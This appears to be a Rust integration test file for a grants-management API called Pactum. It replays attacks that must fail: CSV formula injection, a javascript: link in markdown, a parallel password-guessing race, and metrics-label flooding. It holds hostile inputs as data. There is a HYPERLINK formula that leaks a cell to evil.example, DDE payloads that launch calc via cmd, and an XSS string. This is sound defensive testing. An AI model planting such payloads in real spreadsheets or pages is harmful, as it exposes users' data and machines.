//! Attacks found by trying Pactum as an attacker would, replayed over HTTP: each must fail.

use actix_web::http::Method;
use serde_json::json;

use crate::fixtures::tenant;
use crate::helpers::TestApp;
use crate::on_both_backends;

on_both_backends!(
    a_formula_in_a_title_comes_out_of_the_csv_as_text,
    a_javascript_link_in_a_clause_is_not_a_link_and_every_response_is_protected,
    parallel_wrong_passwords_cannot_race_past_the_limit,
    made_up_methods_do_not_grow_the_metrics,
    the_bearer_scheme_is_read_in_any_case_by_the_idempotency_guard,
);

/// A title a spreadsheet would run as a formula, as an attacker typed it into a grant.
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/\"&A1,\"open\")";

/// Reads a CSV file the way a spreadsheet does and returns every cell it would run as a formula.
fn formulas_in(csv_text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv_text.as_bytes());
    reader
        .records()
        .flat_map(|record| record.expect("valid CSV").iter().map(str::to_owned).collect::<Vec<_>>())
        .filter(|cell| pactum::domain::spreadsheet::is_formula(cell))
        .collect()
}

async fn a_formula_in_a_title_comes_out_of_the_csv_as_text(app: TestApp) {
    let root = app.signed_in("root@platform.example", "Root", true).await;
    let t = tenant(&app, &root, "a").await;
    let created = app
        .post_as(
            &t.treasurer,
            "/api/v1/grants",
            json!({"fund_id": t.fund_id, "network_id": t.network_id, "title": FORMULA,
                "requested_cents": 10_000, "starts_on": "2026-06-01", "ends_on": "2026-08-31",
                "payee": {"iban": "NL91ABNA0417164300", "name": "@SUM(1+1)*cmd|' /C calc'!A0"}}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.text());
    let expense = json!({"expenses": [{"spent_on": "2026-03-02", "description": "+1+cmd|' /C calc'!A0",
        "category": "-2+3", "amount_cents": 4250}]});
    let patched = app
        .call(&t.treasurer, Method::PATCH, &format!("/api/v1/reports/{}", t.report_id), Some(expense))
        .await;
    assert_eq!(patched.status, 200, "{}", patched.text());

    let grants = app.get_as(&t.officer, &format!("/api/v1/funds/{}/grants.csv", t.fund_id)).await;
    assert_eq!(grants.status, 200, "{}", grants.text());
    let text = grants.text();
    assert!(text.contains(&format!("'{}", FORMULA.replace('"', "\"\""))), "{text}");
    assert_eq!(formulas_in(&text), Vec::<String>::new());

    let expenses = app.get_as(&t.treasurer, &format!("/api/v1/grants/{}/expenses.csv", t.grant_id)).await;
    let text = expenses.text();
    assert!(text.contains("'+1+cmd") && text.contains(",'-2+3,42.50,"), "{text}");
    assert_eq!(formulas_in(&text), Vec::<String>::new());
}

async fn a_javascript_link_in_a_clause_is_not_a_link_and_every_response_is_protected(app: TestApp) {
    let root = app.signed_in("root@platform.example", "Root", true).await;
    let t = tenant(&app, &root, "a").await;
    let created = app
        .post_as(
            &t.officer,
            "/api/v1/agreements",
            json!({"municipality_id": t.municipality_id, "title": "Buurtkamer",
                "parties": [{"type": "network", "id": t.network_id}], "starts_on": "2027-01-01",
                "body": "1. Zie [de afspraken](javascript:alert(document.domain)) en [de site](https://lindendaal.example).\n"}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.text());
    let id = created.json()["id"].as_str().unwrap().to_owned();
    let document = app.get_as(&t.officer, &format!("/api/v1/agreements/{id}/versions/1/document")).await;
    assert_eq!(document.status, 200, "{}", document.text());
    let html = document.text();
    assert!(!html.to_lowercase().contains("javascript:"), "{html}");
    assert!(
        html.contains("de afspraken") && html.contains("<a href=\"https://lindendaal.example\">"),
        "{html}"
    );
    let policy = document.header("content-security-policy").expect("a CSP on HTML");
    assert!(policy.contains("script-src 'self'"), "{policy}");
    assert!(!policy.split(';').any(|d| d.contains("script-src") && d.contains("unsafe")), "{policy}");
    assert!(policy.contains("frame-ancestors 'none'"), "{policy}");

    // Every kind of response: JSON, a problem, CSV, a receipt, the docs.
    let receipt = app.get_as(&t.treasurer, &format!("/api/v1/receipts/{}", t.receipt_id)).await;
    assert_eq!(receipt.status, 200);
    let problem = app.get("/api/v1/grants").await;
    let csv = app.get_as(&t.officer, &format!("/api/v1/funds/{}/grants.csv", t.fund_id)).await;
    let json = app.get_as(&t.officer, "/api/v1/me").await;
    let docs = app.get("/docs/").await;
    for reply in [&document, &receipt, &problem, &csv, &json, &docs] {
        assert_eq!(reply.header("x-content-type-options"), Some("nosniff"));
        assert_eq!(reply.header("referrer-policy"), Some("no-referrer"));
        let policy = reply.header("content-security-policy").expect("a CSP");
        assert!(policy.contains("frame-ancestors 'none'"), "{policy}");
    }
    assert_eq!(receipt.header("content-security-policy"), Some("default-src 'none'; frame-ancestors 'none'"));
    // The API reference runs no inline script, so it works under the page policy.
    assert_eq!(docs.status, 200);
    let docs_html = docs.text();
    assert!(
        !docs_html.contains("<script>") && !docs_html.contains("<script type=\"text/javascript\">"),
        "{docs_html}"
    );
}

async fn parallel_wrong_passwords_cannot_race_past_the_limit(app: TestApp) {
    app.create_user("dirk@gemeente.example", "Dirk", false).await;
    let limit = app.state.settings.login_attempts_per_account as usize;
    let wrong = json!({"email": "dirk@gemeente.example", "password": "guess guess guess"});
    let attempts = (0..40).map(|_| app.post_json("/api/v1/auth/login", &wrong));
    let replies = futures_util::future::join_all(attempts).await;
    let checked = replies.iter().filter(|r| r.status == 401).count();
    let refused = replies.iter().filter(|r| r.status == 429).count();
    assert_eq!((checked, refused), (limit, 40 - limit));
}

async fn made_up_methods_do_not_grow_the_metrics(app: TestApp) {
    for i in 0..20 {
        let method = Method::from_bytes(format!("PROBE{i}").as_bytes()).unwrap();
        let reply = app.send(app.request(method, &format!("/api/v1/nothing-{i}")), None).await;
        assert!(reply.status >= 400, "{}", reply.status);
    }
    let metrics = app.get("/metrics").await.text();
    assert!(!metrics.contains("PROBE"), "made-up methods became labels");
    assert!(!metrics.contains("nothing-"), "made-up paths became labels");
    assert!(metrics.contains("method=\"other\""), "{metrics}");
}

async fn the_bearer_scheme_is_read_in_any_case_by_the_idempotency_guard(app: TestApp) {
    let root = app.signed_in("root@platform.example", "Root", true).await;
    let send = || {
        let request = app
            .request(Method::POST, "/api/v1/municipalities")
            .insert_header(("Authorization", format!("BEARER {}", root.token)))
            .insert_header(("Idempotency-Key", "one-municipality"))
            .content_type("application/json");
        app.send(request, Some(json!({"name": "Gemeente Hoofdletters"}).to_string().into()))
    };
    let (first, second) = (send().await, send().await);
    assert_eq!((first.status, second.status), (201, 201), "{}", second.text());
    assert_eq!(second.header("idempotent-replayed"), Some("true"));
    assert_eq!(first.json()["id"], second.json()["id"]);
    let all = app.get_as(&root, "/api/v1/municipalities").await.json();
    assert_eq!(all["items"].as_array().unwrap().len(), 1, "created once");
}
